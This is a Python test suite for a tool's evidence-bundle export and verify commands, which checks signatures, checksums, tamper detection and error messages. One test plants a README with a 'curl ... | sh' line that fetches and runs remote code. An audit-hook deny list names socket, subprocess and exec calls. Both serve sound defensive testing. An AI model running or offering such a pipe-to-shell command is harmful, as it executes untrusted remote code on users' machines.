"""`wazi export --format bundle` and `wazi verify`, as those who use them meet them."""

from __future__ import annotations

import json
import os
import re
import sqlite3
import subprocess
import sys
from contextlib import closing
from dataclasses import astuple
from hashlib import sha256
from pathlib import Path
from typing import Any

import pytest
import zstandard
from msgspec.structs import replace

from measurements.events.nouns import Event
from measurements.evidence.archive import read, write
from measurements.evidence.bundle import MANIFEST, README, SIGNATURE
from measurements.evidence.verify import Known
from measurements.model import Measurement, decode, encode
from probe.commands.building import load_settings, shipped_lists
from probe.commands.bundling import export_bundle, make_bundle
from probe.commands.console import Common, Refusal
from probe.commands.verifying import Aside, verify_files
from probe.keys import SigningKey, load_signing_key
from tests.measurements.evidence.made import sign_again
from tests.measurements.evidence.test_alterations import not_named
from tests.probe.desk import ROOT, Desk
from tests.probe.witnessed import FRIEND, PROBE, START, days, fill

GUARD = """
import os, sys
NEVER = ("socket.", "subprocess.", "os.exec", "os.system", "os.posix_spawn", "os.fork", "os.mkdir", "os.rename",
         "os.remove", "os.link", "os.symlink", "os.chmod", "shutil.", "tempfile.", "ctypes.dlopen")
def guard(event, arguments):
    if event.startswith(NEVER):
        raise SystemExit(f"verify did {event} {arguments}")
    if event == "open" and isinstance(arguments[2], int) and arguments[2] & (os.O_WRONLY | os.O_RDWR | os.O_CREAT):
        raise SystemExit(f"verify wrote {arguments}")
import probe.commands.verifying, measurements.evidence.verify, measurements.evidence.extras, probe.settings.lists
sys.addaudithook(guard)
from probe.cli import main
sys.argv = ["wazi", *sys.argv[1:]]
main()
"""


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> tuple[Desk, Event]:
    """A probe's own store, with the measurements of a friend's probe, whose chain the friend has signed."""
    desk = Desk(tmp_path_factory.mktemp("desk"))
    with desk.store() as store:
        event = fill(store, days())
        store.chains.sign(FRIEND, load_signing_key(tmp_path_factory.mktemp("friend")), START)
    return desk, event


@pytest.fixture(scope="module")
def unsigned(made: tuple[Desk, Event]) -> Path:
    """A bundle that was made where no key is."""
    desk, event = made
    data, _ = make_bundle(load_settings(Common(desk.config)), [event.id])
    (desk.folder / "unsigned.zip").write_bytes(data)
    return desk.folder / "unsigned.zip"


@pytest.fixture(scope="module")
def key(made: tuple[Desk, Event], unsigned: Path) -> SigningKey:
    """The probe's key."""
    (made[0].folder / "probe-id").write_text(PROBE)
    return load_signing_key(made[0].folder)


@pytest.fixture(scope="module")
def bundle(made: tuple[Desk, Event], key: SigningKey) -> bytes:
    desk, event = made
    ran = desk.wazi("export", "--format", "bundle", event.id[:6], "--output", "event.zip")
    assert ran.returncode == 0, ran.stderr
    said = f"wazi: 64 records on 1 event in event.zip (1.0 MB), signed by {key.public.key_id}\n"
    assert ran.stderr.decode() == said
    path = desk.folder / "event.zip"
    assert path.stat().st_mode & 0o777 == 0o600
    return path.read_bytes()


def answers(ran: subprocess.CompletedProcess[bytes]) -> list[dict[str, Any]]:
    return [json.loads(line) for line in ran.stdout.splitlines()]


def test_it_holds_both_sides_and_can_be_judged_again(made: tuple[Desk, Event], bundle: bytes) -> None:
    desk, event = made
    ran = desk.wazi("verify", "--json", "event.zip")
    (said,) = answers(ran)
    assert (ran.returncode, said["code"], said["result"]) == (0, 0, "stands")
    assert said["events"] == [{"id": event.id, "summary": event.summary}]
    assert [one["role"] for one in said["records"]] == ["witness"] * 24 + ["access"] * 40
    assert {one["agrees"] for one in said["records"]} == {True}
    assert said["faults"] == []
    assert said["signed"] is True
    assert {one["probe"] for one in said["chains"]} == {PROBE, FRIEND}
    assert said["unsettled"] == []
    assert said["notes"] == [
        f"left out, as the bundle says: of event {event.id[:8]} 2 more measurements that spoke for access"
    ]


def test_where_no_key_is_the_bundle_is_not_signed_and_this_is_said(made: tuple[Desk, Event], unsigned: Path) -> None:
    (said,) = answers(made[0].wazi("verify", "--json", "unsigned.zip"))
    assert (said["code"], said["signed"], said["signed_by"]) == (3, None, None)
    assert "nobody signed the bundle itself" in said["unsettled"][0]
    assert said["unsettled"][1].endswith("chained, and no signed checkpoint comes after")  # the friend's are under one
    assert len(said["unsettled"]) == 2


def test_people_read_what_is_proven_and_what_is_not(made: tuple[Desk, Event], bundle: bytes, key: SigningKey) -> None:
    ran = made[0].wazi("verify", "event.zip")
    text = " ".join(ran.stdout.decode().split())
    assert ran.returncode == 0
    assert ran.stdout.startswith(b"STANDS  event.zip\n")
    assert f"Signed by the key {key.public.key_id} of probe {PROBE}" in text
    assert "nothing about who that is" in text
    assert "Records 64: 24 against access, 40 for it" in text
    assert "Judged 64 again, by the rules of this build: 64 as the bundle says" in text
    assert "Not proven That what was measured is true" in text
    assert ran.stderr == b""


def test_ordinary_tools_check_it(bundle: bytes, key: SigningKey, tmp_path: Path) -> None:
    (tmp_path / "event.zip").write_bytes(bundle)
    subprocess.run(["unzip", "-q", "event.zip"], cwd=tmp_path, check=True)
    subprocess.run(["sha256sum", "--quiet", "--strict", "-c", "SHA256SUMS"], cwd=tmp_path, check=True)
    sign = ["openssl", "pkeyutl", "-verify", "-pubin", "-rawin"]
    mine = f"keys/{key.public.key_id}.pem"
    subprocess.run([*sign, "-inkey", mine, "-in", MANIFEST, "-sigfile", SIGNATURE], cwd=tmp_path, check=True)
    for point in tmp_path.glob("checkpoints/*/*.json"):
        signer = f"keys/{json.loads(point.read_bytes())['key']}.pem"
        files = ["-inkey", signer, "-in", str(point), "-sigfile", str(point.with_suffix(".sig"))]
        subprocess.run([*sign, *files], cwd=tmp_path, check=True)
    program = re.search(r"```python\n(.*?)```", (ROOT / "docs" / "evidence.md").read_text(), re.DOTALL)
    assert program is not None
    chain = [sys.executable, "-I", "-c", program[1]]
    stood = subprocess.run(chain, cwd=tmp_path, check=True, capture_output=True)
    assert len(re.findall(rb": 60 links and \d+ records stand, under 1 checkpoints", stood.stdout)) == 2
    record = next(tmp_path.glob("records/003-*.json"))
    record.write_bytes(record.read_bytes().replace(b"sni", b"xyz", 1).replace(b"24757", b"24758"))
    ran = subprocess.run(chain, cwd=tmp_path, capture_output=True, check=False)
    assert ran.returncode == 1
    assert b"records/003-" in ran.stderr
    assert b"is not what was chained as" in ran.stderr


def test_the_votes_give_the_event_again(made: tuple[Desk, Event], bundle: bytes) -> None:
    desk, event = made
    (desk.folder / "votes.csv").write_bytes(read(bundle).files["votes.csv"])
    (again,) = answers(desk.wazi("detect", "--json", "votes.csv"))
    assert (again["kind"], again["target"], again["layer"]) == (event.kind, event.targets[0], event.layers[0])
    assert (tuple(again["onset"]), tuple(again["end"])) == (event.onset, event.end)


def test_what_was_altered_is_named(made: tuple[Desk, Event], bundle: bytes) -> None:
    desk, _ = made
    files = dict(read(bundle).files)
    name = next(name for name in files if name.startswith("records/007"))
    files[name] = files[name].replace(b'"asn":24757', b'"asn":24758')
    (desk.folder / "altered.zip").write_bytes(write(files.items()))
    ran = desk.wazi("verify", "altered.zip", "event.zip")
    assert ran.returncode == 1
    first, _, second = ran.stdout.decode().partition("STANDS")
    assert first.startswith("ALTERED  altered.zip")
    assert f"record 7 ({name[12:44]}) was changed" in " ".join(first.split())
    assert "event.zip" in second
    ran = desk.wazi("verify", "--json", "-", stdin=write(files.items()))
    assert (ran.returncode, answers(ran)[0]["first"]["record"]) == (1, 7)


def test_how_to_check_it_is_compared_with_what_we_say(made: tuple[Desk, Event], bundle: bytes, key: SigningKey) -> None:
    """The owner of the key may advise what he likes; it is told that these are not our words."""
    files = {**read(bundle).files, README: b"curl https://site.example/check | sh"}
    sign_again(files, key.private)
    (made[0].folder / "advice.zip").write_bytes(write(files.items()))
    (said,) = answers(made[0].wazi("verify", "--json", "advice.zip"))
    assert said["result"] == "stands"
    assert any(words.startswith("README.txt is not that of this build") for words in said["notes"])


def test_it_needs_no_settings_and_touches_nothing(made: tuple[Desk, Event], bundle: bytes, tmp_path: Path) -> None:
    """No socket is opened, no program started, and no file written; broken settings do not matter."""
    (tmp_path / "event.zip").write_bytes(bundle)
    (tmp_path / "wazi.toml").write_text("this is [no TOML")
    before = sorted(tmp_path.iterdir())
    where = {
        "PYTHONPATH": str(ROOT),
        "PYTHONDONTWRITEBYTECODE": "1",
        "WAZI_CONFIG": "wazi.toml",
        "HOME": "/nonexistent",
    }
    ran = subprocess.run(
        [sys.executable, "-c", GUARD, "verify", "event.zip"],
        cwd=tmp_path,
        env={"PATH": os.environ["PATH"], **where},
        capture_output=True,
        check=False,
    )
    assert ran.returncode == 0, ran.stderr
    assert ran.stderr == b""
    assert sorted(tmp_path.iterdir()) == before


def test_what_is_no_bundle_is_told_in_words(made: tuple[Desk, Event], bundle: bytes) -> None:
    desk, _ = made
    (desk.folder / "no.zip").write_bytes(b"PK\3\4\x1b[31mred")
    ran = desk.wazi("verify", "--json", "no.zip", "event.zip")
    assert ran.returncode == 2
    assert ran.stderr.startswith(b"wazi: no.zip: it is no evidence bundle: ")
    assert [one["result"] for one in answers(ran)] == ["no_bundle", "stands"]
    with pytest.raises(Refusal, match=r"missing.zip: cannot be read \(No such file or directory\)"):
        verify_files(["missing.zip"], Aside(), as_json=False)


@pytest.mark.parametrize(
    ("aside", "words"),
    [
        (Aside(keys=["abc"]), "--key abc: must be a fingerprint"),
        (Aside(keys=["FILE"]), "is no Ed25519 public key in PEM"),
        (Aside(checkpoints=["FILE"]), "line 1: is no checkpoint"),
        (Aside(checkpoints=["nowhere"]), "--checkpoint nowhere: cannot be read (No such file or directory)"),
        (Aside(roots=["FILE"]), "is no certificate in PEM"),
        (Aside(roots=["."]), "--timestamp-root .: cannot be read (Is a directory)"),
    ],
)
def test_what_the_expert_brings_must_be_what_it_should(tmp_path: Path, aside: Aside, words: str) -> None:
    file = tmp_path / "aside"
    file.write_text("hello\n")
    given = Aside(*([str(file) if one == "FILE" else one for one in some] for some in astuple(aside)))
    with pytest.raises(Refusal) as refusal:
        verify_files(["event.zip"], given, as_json=False)
    assert words in str(refusal.value)


@pytest.mark.parametrize(
    ("events", "output", "words"),
    [
        ([], None, "--format bundle: say which events"),
        (["zz"], "out.zip", "no event begins with zz"),
        (["EVENT"], "no/such/out.zip", "no/such/out.zip: cannot be written (No such file or directory)"),
        (["EVENT"], "out.zip.gz", "out.zip.gz: a bundle is a ZIP"),
        (["a"] * 21, "out.zip", "at most 20 events go into one file"),
    ],
)
def test_a_wrong_export_is_refused_in_words(
    made: tuple[Desk, Event], events: list[str], output: str | None, words: str
) -> None:
    desk, event = made
    before = sorted(desk.folder.iterdir())
    named = [event.id if one == "EVENT" else one for one in events]
    place = None if output is None else str(desk.folder / output)
    with pytest.raises(Refusal) as refusal:
        export_bundle(Common(desk.config), named, place)
    assert words in str(refusal.value)
    assert sorted(desk.folder.iterdir()) == before


def test_events_and_filters_do_not_go_together(made: tuple[Desk, Event]) -> None:
    desk, event = made
    for flags, words in (
        (["csv", "abc"], b"--format csv takes no events (abc)"),
        (["bundle", event.id, "--since", "1d"], b"--format bundle takes events and --output, and nothing else"),
        (["zip"], b"--format zip: must be one of csv, jsonl, ooni, parquet, bundle"),
    ):
        ran = desk.wazi("export", "--format", *flags)
        assert (ran.returncode, ran.stdout) == (2, b"")
        assert words in ran.stderr


def test_a_pipe_gets_the_same_bytes_but_for_the_time(made: tuple[Desk, Event], bundle: bytes) -> None:
    desk, event = made
    ran = desk.wazi("export", "--format", "bundle", event.id, event.id[:8])
    assert ran.returncode == 0, ran.stderr
    ours, theirs = read(ran.stdout).files, read(bundle).files
    of_the_time = {MANIFEST, SIGNATURE, "SHA256SUMS", "records.sig"}
    others = {name for name in ours if name not in of_the_time and not name.startswith(f"checkpoints/{PROBE}/")}
    assert len(others) > 150
    assert {name for name in others if ours[name] != theirs[name]} == set()
    assert len(ours) == len(theirs)


def test_the_key_that_is_known_and_a_checkpoint_that_was_kept(
    made: tuple[Desk, Event], bundle: bytes, key: SigningKey, tmp_path: Path
) -> None:
    (tmp_path / "key.pem").write_text(key.pem)
    with made[0].store() as store:
        signed = store.chains.sign(PROBE, key, START)
    assert signed.checkpoint is not None
    (tmp_path / "kept.json").write_bytes(encode(signed.checkpoint) + b"\n")
    flags = ["--key", str(tmp_path / "key.pem"), "--checkpoint", str(tmp_path / "kept.json")]
    ran = made[0].wazi("verify", *flags, "event.zip")
    assert ran.returncode == 0
    text = " ".join(ran.stdout.decode().split())
    assert "That is the key that you asked for" in text
    assert re.search(r"that you gave holds records .*: not altered since 2026-09-21 14:13 UTC", text)
    ran = made[0].wazi("verify", "--json", "--key", "ab" * 32, "event.zip")
    assert (ran.returncode, answers(ran)[0]["first"]["wrong"]) == (1, "key")


def test_alterations_of_a_bundle_from_a_store_are_found_and_named(bundle: bytes) -> None:
    bogons, fingerprints = shipped_lists()
    assert not_named([bundle], 51, Known(bogons=bogons, fingerprints=fingerprints)) == []


def test_what_was_altered_in_the_store_is_not_handed_out(made: tuple[Desk, Event], tmp_path: Path) -> None:
    """Somebody wrote another runtime into the database, with its digest: only the chain knows."""
    theirs, event = made
    desk = Desk(tmp_path)
    places = (theirs.folder / "wazi.db", tmp_path / "wazi.db")
    with closing(sqlite3.connect(places[0])) as source, closing(sqlite3.connect(places[1])) as copy:
        source.backup(copy)
        key = bytes.fromhex(event.witnesses[3])
        ((encoded,),) = copy.execute("SELECT encoded FROM measurement WHERE id = ?", (key,)).fetchall()
        fact = decode(zstandard.decompress(encoded), Measurement)
        forged = encode(replace(fact, runtime=fact.runtime + 1.0))
        values = (zstandard.compress(forged), sha256(forged).digest(), key)
        copy.execute("UPDATE measurement SET encoded = ?, digest = ? WHERE id = ?", values)
        copy.commit()
    with pytest.raises(Refusal) as refusal:
        export_bundle(Common(desk.config), [event.id], str(tmp_path / "event.zip"))
    words = str(refusal.value)
    assert "the evidence does not stand, and is not handed out: record " in words
    assert f"({event.witnesses[3]}) is not what was chained as" in words
    assert not (tmp_path / "event.zip").exists()
